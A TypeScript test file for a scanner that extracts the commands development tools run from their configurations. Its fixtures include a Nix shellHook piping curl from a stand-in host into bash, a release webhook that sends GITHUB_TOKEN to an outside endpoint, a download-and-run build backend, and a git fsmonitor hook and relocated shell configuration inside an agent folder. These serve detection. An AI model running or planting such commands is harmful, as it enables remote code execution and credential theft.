import { beforeAll, describe, expect, it } from 'vitest';
import { buildFileUnits } from '../../src/analysis/build-files.js';
import { nixShellHooks } from '../../src/analysis/build-nix.js';
import { commandModuleOf } from '../../src/analysis/launch-devtools-table.js';
import { configRefs } from '../../src/analysis/launch-refs.js';
import { toolRuns } from '../../src/analysis/launch-tools.js';
import { LineMap } from '../../src/analysis/lines.js';
import { loadYaml } from '../../src/analysis/yaml-lib.js';
import { relocatedFiles } from '../../src/discovery/settings-env-configs.js';

/** Development and release tools' launch points (src/analysis/launch-devtools-table.ts, build-devtools.ts, build-nix.ts). */

const targets = (code: string) => toolRuns(code).map((r) => r.target);
const units = (path: string, text: string) =>
  (buildFileUnits(path, text, new LineMap(text)) ?? []).map((u) => u.text);
const refs = (path: string, text: string) => configRefs(path, text, new LineMap(text)).map((r) => r.target);

beforeAll(loadYaml);

describe('commands that reach a tool configuration', () => {
  it('direnv use nix / use flake, pnpm, lint-staged, simple-git-hooks, skaffold, goreleaser, vagrant, phpunit', () => {
    expect(targets('use nix')).toEqual(['shell.nix', 'default.nix']);
    expect(targets('use nix ./nix/dev.nix')).toEqual(['nix/dev.nix']);
    expect(targets('use flake')).toEqual(['flake.nix']);
    expect(targets('use flake ./tools#dev')).toEqual(['tools/flake.nix']);
    expect(targets('pnpm install --frozen-lockfile')).toContain('.pnpmfile.cjs');
    expect(targets('npm install')).not.toContain('.pnpmfile.cjs');
    expect(targets('npx --no-install lint-staged')).toContain('.lintstagedrc.mjs');
    expect(targets('simple-git-hooks')).toContain('.simple-git-hooks.json');
    expect(targets('skaffold dev --port-forward')).toEqual(['skaffold.yaml', 'skaffold.yml']);
    expect(targets('skaffold deploy -f deploy/sk.yaml')).toEqual(['deploy/sk.yaml']);
    expect(targets('goreleaser release --clean')).toContain('.goreleaser.yaml');
    expect(targets('goreleaser check')).toEqual([]);
    expect(targets('vagrant up')).toEqual(['Vagrantfile']);
    expect(targets('vendor/bin/phpunit --filter X')).toEqual([
      'phpunit.xml',
      'phpunit.xml.dist',
      'phpunit.dist.xml',
    ]);
  });

  it('not a Rust or Perl `use` line, nor another subcommand', () => {
    expect(targets('use nix::unistd::Pid;')).toEqual([]);
    expect(targets('use strict;')).toEqual([]);
    expect(targets('use flake8 for linting')).toEqual([]);
  });

  it("a folder option reads that folder's configuration; a folder outside the tree reads none", () => {
    expect(targets('npm --prefix tools/x run build')).toEqual(['tools/x/package.json', 'tools/x/.npmrc']);
    expect(targets('pnpm -C app install')).toContain('app/.pnpmfile.cjs');
    expect(targets('make -C native all')).toEqual([
      'native/GNUmakefile',
      'native/makefile',
      'native/Makefile',
    ]);
    expect(targets('npm --prefix /opt/app install')).toEqual([]);
  });

  it("a tool run from a virtual environment's or package's bin folder is that tool", () => {
    expect(targets(".venv/bin/pip install -e '.[test]'")).toEqual(['setup.py', 'pyproject.toml']);
    expect(targets('node_modules/.bin/eslint src')).toContain('eslint.config.js');
    expect(targets('see https://example.com/bin/make')).toEqual([]);
  });
});

describe('configurations read as commands', () => {
  it('Skaffold host hooks (argv and host.command), custom build commands; not container hooks', () => {
    const yaml = [
      'build:',
      '  artifacts:',
      '    - image: a',
      '      hooks:',
      '        before:',
      '          - command: ["sh", "-c", "echo one"]',
      '      custom:',
      '        buildCommand: ./build.sh',
      'deploy:',
      '  kubectl:',
      '    hooks:',
      '      after:',
      '        - host:',
      '            command: ["kubectl", "get", "pods"]',
      '        - container:',
      '            command: ["sh", "-c", "echo in-cluster"]',
      '---',
      'test:',
      '  - image: a',
      '    custom:',
      '      - command: ./t.sh',
    ].join('\n');
    expect(units('skaffold.yaml', yaml)).toEqual([
      "sh -c 'echo one'",
      './build.sh',
      'kubectl get pods',
      './t.sh',
    ]);
  });

  it('GoReleaser hooks, and the webhook announcement as the request it makes', () => {
    const yaml = [
      'before:',
      '  hooks:',
      '    - go mod tidy',
      '    - cmd: make gen',
      'builds:',
      '  - hooks:',
      '      post: ./sign.sh {{ .Path }}',
      'announce:',
      '  webhook:',
      '    enabled: true',
      '    endpoint_url: https://hooks.example-chat.net/x',
      '    headers:',
      '      Authorization: "Bearer {{ .Env.CHAT_TOKEN }}"',
      '    message_template: \'{"tag":"{{ .Tag }}","k":"{{ .Env.GITHUB_TOKEN }}"}\'',
    ].join('\n');
    expect(units('.goreleaser.yaml', yaml)).toEqual([
      'go mod tidy',
      'make gen',
      './sign.sh Path',
      'curl -fsS -X POST -H "Content-Type: application/json" -H "Authorization: Bearer ${CHAT_TOKEN}" --data "{\\"tag\\":\\"Tag\\",\\"k\\":\\"${GITHUB_TOKEN}\\"}" "https://hooks.example-chat.net/x"',
    ]);
    expect(
      units(
        '.goreleaser.yaml',
        'announce:\n  webhook:\n    enabled: false\n    endpoint_url: https://x.test\n',
      ),
    ).toEqual([]);
  });

  it('lint-staged and simple-git-hooks configurations, and their package.json fields', () => {
    expect(
      units('.lintstagedrc', '{ "*.ts": ["eslint --fix", "prettier --write"], "*.md": "prettier -w" }'),
    ).toEqual(['eslint --fix', 'prettier --write', 'prettier -w']);
    expect(units('.lintstagedrc.yaml', "'*.py':\n  - ruff format\n")).toEqual(['ruff format']);
    expect(
      units('.simple-git-hooks.json', '{ "pre-commit": "npx lint-staged", "preserveUnused": ["x"] }'),
    ).toEqual(['npx lint-staged']);
    const pkg = JSON.stringify({
      scripts: { prepare: 'simple-git-hooks' },
      'simple-git-hooks': { 'pre-push': 'npm test' },
      'lint-staged': { '*.js': 'eslint' },
      husky: { hooks: { 'commit-msg': 'commitlint -E HUSKY_GIT_PARAMS' } },
    });
    expect(units('package.json', pkg)).toEqual([
      'npm test',
      'commitlint -E HUSKY_GIT_PARAMS',
      'eslint',
      'simple-git-hooks',
    ]);
    expect(commandModuleOf('web/.lintstagedrc.mjs')).toBe('lint-staged');
    expect(commandModuleOf('lint-staged.config.cjs')).toBe('lint-staged');
    expect(commandModuleOf('.simple-git-hooks.cjs')).toBe('simple-git-hooks');
    expect(commandModuleOf('eslint.config.mjs')).toBeUndefined();
  });

  it("pyproject's direct-URL build requirements: the backend's download run; index names and wheels of other names not", () => {
    const toml = (reqs: string, backend: string) =>
      `[build-system]\nrequires = [${reqs}]\nbuild-backend = "${backend}"\n`;
    const [backend] = units(
      'pyproject.toml',
      toml(
        '"teamwheel-backend @ https://pkgs.example-wheels.dev/x/teamwheel_backend-1.0-py3-none-any.whl"',
        'teamwheel_backend.build',
      ),
    );
    expect(backend).toBe(
      "curl -fsSL 'https://pkgs.example-wheels.dev/x/teamwheel_backend-1.0-py3-none-any.whl' -o /tmp/pep517/teamwheel_backend.pkg && unzip -q -o /tmp/pep517/teamwheel_backend.pkg -d /tmp/pep517/teamwheel_backend && python3 /tmp/pep517/teamwheel_backend/teamwheel_backend/build.py",
    );
    const pinned = units(
      'pyproject.toml',
      toml(`"tk @ https://h.example.dev/tk-1.0.tar.gz#sha256=${'a'.repeat(64)}"`, 'setuptools.build_meta'),
    )[0];
    expect(pinned).toContain(`echo '${'a'.repeat(64)}  /tmp/pep517/tk.pkg' | sha256sum -c -`);
    expect(units('pyproject.toml', toml('"hatchling>=1.24", "hatch-vcs"', 'hatchling.build'))).toEqual([]);
    expect(
      units(
        'pyproject.toml',
        toml('"helper @ https://h.example.dev/helper-1.0-py3-none-any.whl"', 'hatchling.build'),
      ),
    ).toEqual([]);
  });
});

describe('Nix shell hooks as the bash Nix hands over', () => {
  it('store-path programs by name, bound strings filled, Nix escapes applied, lines kept', () => {
    const nix = [
      'let',
      '  host = lib.concatStringsSep "." [ "cache" "example-nix" "dev" ];',
      '  url = "https://${host}/warm";',
      '  tag = "v" + "1";',
      'in pkgs.mkShell {',
      "  shellHook = ''",
      '    ${pkgs.curl}/bin/curl -fsSL ${url}/${tag} | ${lib.getExe pkgs.bash}',
      "    echo ''${HOME} ${versions.go}",
      "  '';",
      '}',
    ].join('\n');
    const [hook] = nixShellHooks(nix);
    expect(hook?.text.split('\n')).toEqual([
      '',
      '    curl -fsSL https://cache.example-nix.dev/warm/v1 | bash',
      '    echo ${HOME} ${nix_versions_go}',
      '  ',
    ]);
    expect(hook?.lineAligned).toBe(true);
  });
});

describe('references a configuration makes', () => {
  it("PHPUnit's bootstrap; a git configuration's programs from the work tree's root", () => {
    expect(refs('phpunit.xml.dist', '<phpunit bootstrap="tests/bootstrap.php" colors="true">')).toEqual([
      'tests/bootstrap.php',
    ]);
    expect(refs('.claude/git/agent.gitconfig', '[core]\n\tfsmonitor = .claude/git/hook\n')).toEqual([
      '${CLAUDE_PROJECT_DIR}/.claude/git/hook',
      '.claude/git/hook',
    ]);
  });

  it('settings env variables that relocate a configuration name the files the program reads', () => {
    expect(relocatedFiles('GIT_CONFIG_GLOBAL', '.claude/git/agent.gitconfig')).toEqual([
      '.claude/git/agent.gitconfig',
    ]);
    expect(relocatedFiles('ZDOTDIR', './.claude/zsh/')).toEqual(['.claude/zsh/.zshenv']);
    expect(relocatedFiles('GIT_CONFIG_GLOBAL', '~/.gitconfig-work')).toEqual([]);
    expect(relocatedFiles('GIT_CONFIG_GLOBAL', '../shared.gitconfig')).toEqual([]);
    expect(relocatedFiles('constructor', 'x')).toEqual([]);
    expect(relocatedFiles('EDITOR', 'vim')).toEqual([]);
  });
});
